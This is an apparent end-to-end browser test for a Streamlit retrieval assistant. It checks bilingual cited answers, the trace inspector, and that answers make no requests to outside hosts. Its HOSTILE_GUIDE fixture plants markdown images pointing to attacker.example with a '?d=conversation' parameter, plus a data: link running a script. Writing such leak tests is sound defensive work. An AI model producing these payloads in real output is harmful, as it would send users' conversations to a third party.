"""The app in a real browser: ``streamlit run`` on 127.0.0.1, Debian's chromium driven by Playwright.

A visitor asks in French and in English over the bundled corpus (real local embeddings, the
offline model), gets cited answers, and an operator opens the trace inspector. Screenshots go to
``$E2E_SCREENSHOTS`` (default: the test's temporary folder); look at them after a layout change.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from rag.config import DEFAULT_CORPUS, RagSettings
from rag.indexer import index_corpus
from tests.conftest import PROVIDER_VARIABLES, REPO_ROOT
from tests.local_server import free_port, running_server

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
]
ANSWER_TIMEOUT_MS = 60_000
LEAK = "https://attacker.example/leak.png"
# A guide written to leak: an image by reference, an inline image, a data: link and raw HTML.
HOSTILE_GUIDE = f"""# Le pavillon des essais

Le pavillon des essais ouvre de 10 h à 17 h ![logo][img] et se visite librement.
![suivi]({LEAK}?d=conversation) [cliquez](data:text/html,<script>alert(1)</script>) <img src="{LEAK}">

[img]: {LEAK}
"""


@pytest.fixture
def chromium() -> Path:
    """Debian's chromium; CI must have it (``.ci/run`` installs it), elsewhere the test is skipped."""
    if not CHROMIUM.exists():
        message = f"{CHROMIUM} is absent: install it with `apt-get install -y chromium`."
        if os.environ.get("CI"):
            pytest.fail(message + " CI installs it in .ci/run.")
        pytest.skip(message)
    return CHROMIUM


def _server_command(port: int) -> list[str]:
    options = {
        "server.headless": "true",
        "server.address": "127.0.0.1",
        "server.port": port,
        "server.fileWatcherType": "none",
        "browser.gatherUsageStats": "false",
        "client.toolbarMode": "minimal",
    }
    app = str(REPO_ROOT / "streamlit_app.py")
    return [
        sys.executable,
        "-m",
        "streamlit",
        "run",
        app,
        *(f"--{key}={value}" for key, value in options.items()),
    ]


@pytest.fixture
def app_url(tmp_path: Path, local_embedder: Any) -> Iterator[str]:
    """The app serving an index of ``data/corpus``, offline model, state in ``tmp_path``."""
    index_dir = tmp_path / "index"
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    (hostile / "pavillon.md").write_text(HOSTILE_GUIDE, encoding="utf-8")
    settings = RagSettings(_env_file=None, index_dir=index_dir)
    index_corpus([DEFAULT_CORPUS, hostile], settings, embedder=local_embedder)
    env = {name: value for name, value in os.environ.items() if name not in PROVIDER_VARIABLES}
    env.update(
        PYTHONPATH=str(REPO_ROOT),
        RAG_INDEX_DIR=str(index_dir),
        AGENT_PROVIDER="offline",
        AGENT_CHECKPOINT_PATH=str(tmp_path / "state" / "threads.sqlite"),
        HF_HUB_OFFLINE="1",
        TRANSFORMERS_OFFLINE="1",
        ANONYMIZED_TELEMETRY="False",
        NO_PROXY="127.0.0.1,localhost",
    )
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    with (
        (tmp_path / "streamlit.log").open("wb") as log,
        running_server(
            _server_command(port), f"{url}/_stcore/health", timeout=60, cwd=tmp_path, env=env, output=log
        ),
    ):
        yield url


def _ask(page: Any, question: str, turn: int) -> Any:
    """Type ``question``, send it, and wait for the ``turn``-th answer to list its sources."""
    from playwright.sync_api import expect

    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(question)
    box.press("Enter")
    answer = page.get_by_test_id("stChatMessage").nth(2 * turn - 1)
    expect(answer).to_contain_text("Sources", timeout=ANSWER_TIMEOUT_MS)
    expect(answer.get_by_test_id("stExpander").first).to_be_visible()
    return answer


def test_a_visitor_asks_in_french_and_english_and_an_operator_opens_the_trace(
    chromium: Path, app_url: str, tmp_path: Path
) -> None:
    from playwright.sync_api import expect, sync_playwright

    shots = Path(os.environ.get("E2E_SCREENSHOTS") or tmp_path / "screenshots")
    shots.mkdir(parents=True, exist_ok=True)
    requested: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(chromium), args=CHROMIUM_FLAGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            page.on("request", lambda request: requested.append(request.url))
            page.goto(app_url)
            expect(page.get_by_text("Offline model: extractive answers")).to_be_visible(timeout=60_000)
            expect(page.get_by_test_id("stSidebar")).to_contain_text("Chunks")
            page.screenshot(path=shots / "01-start.png")

            french = _ask(page, "Quels sont les horaires d'ouverture du château ?", 1)
            expect(french).to_contain_text("[1]")
            page.screenshot(path=shots / "02-french-answer.png")

            english = _ask(page, "How much is a ticket for the Palace?", 2)
            expect(english).to_contain_text("[1]")
            english.get_by_text("Cited passages").click()
            page.screenshot(path=shots / "03-english-answer.png")

            steps = english.get_by_test_id("stExpander").first
            steps.get_by_text("steps in").click()
            expect(steps).to_contain_text("Critique, round 1")
            steps.scroll_into_view_if_needed()
            page.screenshot(path=shots / "04-steps.png")

            english.get_by_text("Trace inspector").click()
            inspector = english.get_by_test_id("stExpander").last
            expect(inspector.get_by_role("tab", name="Timeline")).to_be_visible()
            expect(inspector).to_contain_text("Model calls")
            inspector.scroll_into_view_if_needed()
            page.screenshot(path=shots / "05-trace-timeline.png")
            inspector.get_by_role("tab", name="Retrieval").click()
            expect(inspector).to_contain_text("Query:")
            page.screenshot(path=shots / "06-trace-retrieval.png")
            inspector.get_by_role("tab", name="Graph").click()
            drawing = inspector.get_by_test_id("stGraphVizChart")
            expect(drawing.locator("svg")).to_be_visible(timeout=20_000)
            drawing.scroll_into_view_if_needed()
            page.screenshot(path=shots / "07-trace-graph.png")

            hostile = _ask(page, "Quand ouvre le pavillon des essais ?", 3)
            hostile.get_by_text("Cited passages").click()
            expect(hostile).to_contain_text("attacker.example")  # shown as text, never fetched
            expect(hostile.locator("img")).to_have_count(0)
            expect(hostile.locator("a[href^='data:'], a[href^='javascript:']")).to_have_count(0)
            page.screenshot(path=shots / "08-hostile-passage.png")
        finally:
            browser.close()
    elsewhere = sorted({url for url in requested if urlsplit(url).hostname != "127.0.0.1"})
    assert not elsewhere, f"the browser requested other hosts: {elsewhere}"
    assert requested, "no request was recorded"
